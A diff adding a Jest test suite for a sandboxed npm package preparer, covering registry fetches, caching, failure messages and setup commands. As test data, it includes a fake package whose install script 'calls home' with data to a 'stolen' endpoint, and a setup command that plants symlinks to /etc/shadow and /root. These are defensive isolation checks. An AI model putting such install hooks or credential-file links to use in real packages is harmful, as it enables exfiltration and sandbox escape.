@@ -1,0 +1,179 @@
+import { existsSync, mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, afterEach, describe, expect, test } from "@jest/globals";
+import type { MakingLimits } from "../../src/workspace/prepare/make-layer.ts";
+import { openPreparer } from "../../src/workspace/prepare/open-preparer.ts";
+import type { Preparation, SetupCommand } from "../../src/workspace/preparer.ts";
+import { openRegistry, type Mood, type Package, type Registry } from "./registry-fixture.ts";
+import { memoryStore, SANDBOX_OPTIONS, sandboxHere } from "./sandbox-fixture.ts";
+
+/** Packages come in from a registry of the test's own, by this machine's npm, in this machine's sandbox. */
+const here = await sandboxHere();
+const it = here ? test : test.skip;
+const repository = memoryStore();
+const folder = mkdtempSync(join(tmpdir(), "coop-prepare-"));
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+const open: Registry[] = [];
+afterEach(async () => {
+  for (const one of open.splice(0)) await one.close();
+});
+async function registry(packages: readonly Package[] = [], mood: Mood = "answers"): Promise<Registry> {
+  const one = await openRegistry(packages, mood);
+  open.push(one);
+  return one;
+}
+
+type Files = Readonly<Record<string, string>>;
+const LIMITS: MakingLimits = { fetchMs: 60_000, buildMs: 60_000, fetchBytesMax: 2_000_000, idleMs: 800 };
+const setup = (run: string): SetupCommand[] => [{ name: "packages", run, timeoutSeconds: 30 }];
+
+async function prepare(files: Files, from: Registry, commands: SetupCommand[] = []): Promise<Preparation> {
+  const host = {
+    searchPath: SANDBOX_OPTIONS.searchPath,
+    home: folder,
+    environment: { npm_config_registry: from.url },
+  };
+  const options = { sandbox: here!, host, folder, temporary: tmpdir(), layersBytesMax: 1e9, registries: [] };
+  const tree = repository.tree(files);
+  return openPreparer({ ...options, limits: LIMITS }).prepare({ tree, blobs: repository.blobs, setup: commands });
+}
+
+async function runWith(preparation: Preparation, command: string, files: Files): Promise<string> {
+  const { mounts, environment } = preparation.prepared;
+  const limits = { timeoutMs: 20_000, outputBytesMax: 20_000 };
+  const request = { tree: repository.tree(files), blobs: repository.blobs, command, mounts, environment };
+  return (await here!.sandbox.run({ ...request, ...limits })).output;
+}
+
+const npm = (dependencies: object): Files => ({
+  "package.json": JSON.stringify({ name: "x", version: "1.0.0", dependencies }),
+  // npm tries again after ten seconds; that a registry is away shows the first time.
+  ".npmrc": "fetch-retries=0\n",
+});
+const LEFT: Package = { name: "left", files: { "index.js": "module.exports = 7;\n" } };
+
+describe("packages from a registry", () => {
+  it("are there in a run, which cannot change them", async () => {
+    const files = npm({ left: "1.0.0" });
+    const from = await registry([LEFT]);
+    const made = await prepare(files, from);
+    expect(made).toMatchObject({ outcome: "ready", from: "made" });
+    const change = 'echo "module.exports = 8" > node_modules/left/index.js';
+    expect(await runWith(made, `${change}; node -p 'require("left")'`, files)).toBe("8\n");
+    expect(await runWith(await prepare(files, from), `node -p 'require("left")'`, files)).toBe("7\n");
+  });
+
+  it("are found again for the next ticket, without asking anybody", async () => {
+    const from = await registry([LEFT]);
+    await prepare(npm({ left: "*" }), from);
+    const before = from.asked.length;
+    const again = await prepare({ ...npm({ left: "*" }), "src/new.js": "" }, from);
+    expect(again).toMatchObject({ outcome: "ready", from: "found" });
+    expect(from.asked).toHaveLength(before);
+    expect(again.outcome === "ready" && again.durationMs).toBeLessThan(1000);
+  });
+
+  it("whose install script calls home reach nobody, neither while they come in nor later", async () => {
+    const home = await registry();
+    const call = `require("node:http").get("${home.url}stolen").on("error", () => undefined);`;
+    const script = `require("node:fs").writeFileSync("ran", "");${call}`;
+    const rude: Package = {
+      name: "rude",
+      files: { "call.js": script },
+      more: { scripts: { install: "node call.js" }, hasInstallScript: true },
+    };
+    const files = npm({ rude: "1.0.0" });
+    const made = await prepare(files, await registry([rude]));
+    expect(made.outcome).toBe("ready");
+    expect(await runWith(made, "ls node_modules/rude; node node_modules/rude/call.js", files)).toMatch(
+      /^call\.js\npackage\.json\nran$/m,
+    );
+    expect(home.asked).toEqual([]);
+  });
+});
+
+describe("what cannot be brought in is said in a sentence", () => {
+  const sentenceOf = (made: Preparation) => (made.outcome === "failed" ? made.sentence : made.outcome);
+
+  it("a version that the registry does not have", async () => {
+    const made = await prepare(npm({ left: "9.9.9" }), await registry([LEFT]));
+    expect(sentenceOf(made)).toMatch(/^npm packages \(package\.json\) could not be fetched: .*Mend the manifest/);
+    expect(made.outcome === "failed" && made.details.join()).toMatch(/left@9\.9\.9/);
+  });
+
+  it("a registry that is down", async () => {
+    const gone = await openRegistry([]);
+    await gone.close();
+    expect(sentenceOf(await prepare(npm({ left: "1" }), gone))).toMatch(
+      /the registry 127\.0\.0\.1 could not be reached \(ECONNREFUSED\)\. Try again with `\/coop retry`/,
+    );
+  });
+
+  it("a registry that hangs", async () => {
+    const made = await prepare(npm({ left: "2" }), await registry([], "hangs"));
+    expect(sentenceOf(made)).toMatch(/could not be reached \(it stopped answering\)/);
+  });
+
+  it("a registry that never stops sending", async () => {
+    const made = await prepare(npm({ left: "3" }), await registry([], "never-ends"));
+    expect(sentenceOf(made)).toMatch(/sent more than this server takes for one repository \(2 MB\)/);
+  });
+
+  it("a lockfile that does not fit its manifest", async () => {
+    const lock = { name: "x", version: "1.0.0", lockfileVersion: 3, packages: { "": { name: "x", version: "1.0.0" } } };
+    const files = { ...npm({ left: "1.0.0" }), "package-lock.json": JSON.stringify(lock) };
+    const made = await prepare(files, await registry([LEFT]));
+    expect(sentenceOf(made)).toMatch(/^npm packages \(package-lock\.json\) could not be fetched: .*exit status 1/);
+    expect(made.outcome === "failed" && made.details.join(" ")).toMatch(/Missing: left@1\.0\.0 from lock file/);
+  });
+});
+
+describe("the policy's own setup commands", () => {
+  const files: Files = { "package.json": '{"name":"x"}', "tools/list.txt": "one two\n", "src/a.js": "" };
+
+  it("see the whole repository and the registries; every run sees what they leave", async () => {
+    const from = await registry([LEFT]);
+    const run = [
+      "npm install --no-save left",
+      "mkdir -p generated && cp tools/list.txt generated/ && echo made > src/made.js",
+      "printf '#!/bin/sh\\necho tool\\n' > $PREPARED/bin/tool && chmod +x $PREPARED/bin/tool && echo kept > ~/kept",
+    ].join(" && ");
+    const made = await prepare(files, from, setup(run));
+    expect(made).toMatchObject({ outcome: "ready", what: ["setup (packages)"] });
+    const look = "cat generated/list.txt src/made.js ~/kept; tool; node -p 'require(\"left\")'; echo x > src/a.js";
+    expect(await runWith(made, look, files)).toBe("one two\nmade\nkept\ntool\n7\n");
+  });
+
+  it("reach no other host, and a run reaches none", async () => {
+    const [from, other] = [await registry([LEFT]), await registry()];
+    const get = (url: string) =>
+      `node -e 'require("node:http").get({ host: "127.0.0.1", port: 3128, path: "${url}x" }, (a) => { console.log(a.statusCode); a.resume(); }).on("error", (e) => console.log(e.code))'`;
+    const made = await prepare(files, from, setup(`${get(other.url)} > answer.txt; ${get(from.url)} >> answer.txt`));
+    expect(await runWith(made, `cat answer.txt; ${get(from.url)}`, files)).toBe("403\n404\nECONNREFUSED\n");
+    expect(other.asked).toEqual([]);
+  });
+
+  it("may leave thousands of links that lead out, and nobody follows one", async () => {
+    const links = [..."/etc/shadow /root . ..".split(" "), process.cwd()];
+    const plant = `for (let n = 0; n < 3000; n++) fs.symlinkSync(${JSON.stringify(links)}[n % 5], "node_modules/farm/l" + n)`;
+    const run = `mkdir -p node_modules/farm && node -e '${plant}' && ln -s ${process.cwd()} here`;
+    const made = await prepare(files, await registry(), setup(run));
+    const look =
+      "ls node_modules/farm | wc -l; cat node_modules/farm/l0 node_modules/farm/l1/x here/package.json 2>&1 | grep -c 'No such file'";
+    expect(await runWith(made, look, files)).toBe("3000\n3\n");
+    expect(existsSync("/etc/shadow")).toBe(true);
+  });
+
+  it("that fail are named, with what they said", async () => {
+    const made = await prepare(files, await registry(), setup("echo reason; exit 3"));
+    expect(made).toMatchObject({
+      outcome: "failed",
+      details: ["reason", 'The setup command "packages" ended with exit status 3'],
+    });
+    expect(made.outcome === "failed" && made.sentence).toMatch(
+      /^setup \(packages\) could not be fetched: .*Mend `setup` in \.github\/coop\.yml/,
+    );
+  });
+});
